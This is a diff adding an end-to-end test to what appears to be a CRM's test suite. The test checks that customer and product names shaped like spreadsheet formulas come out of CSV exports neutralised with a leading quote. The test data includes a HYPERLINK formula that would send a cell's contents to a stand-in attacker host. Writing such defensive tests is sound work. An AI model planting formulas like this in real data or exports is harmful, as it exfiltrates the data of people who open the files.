@@ -2,6 +2,8 @@
 events arrive; a saved selection says its size and lists its customers; bad criteria
 are a 400 naming the path."""
 
+import csv
+import io
 import uuid
 
 from tests.e2e.test_customers import unique_name
@@ -216,3 +218,54 @@ def test_predictions_are_trained_through_the_api_and_shown_in_the_360_view(stack
     assert bad.status_code == 400 and bad.json()["fields"] == {
         "criteria.churn_risk.at_least": "a number from 0 to 1"
     }
+
+
+def test_a_name_that_is_a_formula_comes_out_of_the_exports_as_text(stack, eventually):
+    """CSV injection: a customer and a product named like a spreadsheet formula reach the
+    selection's and the sales statistics' CSV as text, a quote in front; amounts and
+    counts stay numbers."""
+    t = uuid.uuid4().hex[:6].upper()
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    sku = f"EVIL-{t}"
+    r = stack.request(
+        "POST",
+        "/api/products",
+        role="admin",
+        json={"sku": sku, "name": f"@SUM(1+1) {t}", "price": "10.00", "stock_on_hand": 5},
+    )
+    assert r.status_code == 201, r.text
+    body = {"kind": "person", "given_name": formula, "family_name": unique_name()}
+    r = stack.request("POST", "/api/customers", json=body)
+    assert r.status_code == 201, r.text
+    customer = r.json()
+    r = stack.request(
+        "POST", "/api/orders", json={"customer_id": customer["id"], "lines": [{"sku": sku, "quantity": 2}]}
+    )
+    assert r.status_code == 201, r.text
+    criteria = {"bought": {"sku": sku}}
+    assert eventually(
+        lambda: (
+            stack.request("POST", "/api/selections/preview", json={"criteria": criteria}).json()
+            == {"size": 1}
+        )
+    )
+    selection = stack.request(
+        "POST", "/api/selections", json={"name": f"formula {t}", "criteria": criteria}
+    ).json()
+
+    r = stack.request("GET", f"/api/selections/{selection['id']}/customers?format=csv")
+    assert r.status_code == 200 and r.headers["Content-Type"].startswith("text/csv")
+    (row,) = list(csv.DictReader(io.StringIO(r.text)))
+    assert row["name"].startswith("'=HYPERLINK(") and row["id"] == str(customer["id"])
+    assert (
+        stack.request("GET", f"/api/selections/{selection['id']}/customers")
+        .json()[0]["name"]
+        .startswith("=HYPERLINK(")
+    )  # the JSON answer is the data as it is
+
+    month = stack.request("GET", f"/api/customers/{customer['id']}").json()["created_at"][:7]
+    r = stack.request(
+        "GET", f"/api/statistics/sales-by-product?from={month}&to={month}&format=csv", role="supervisor"
+    )
+    (sold,) = [row for row in csv.DictReader(io.StringIO(r.text)) if row["sku"] == sku]
+    assert sold["name"] == f"'@SUM(1+1) {t}" and sold["quantity"] == "2" and sold["revenue"] == "20.00"
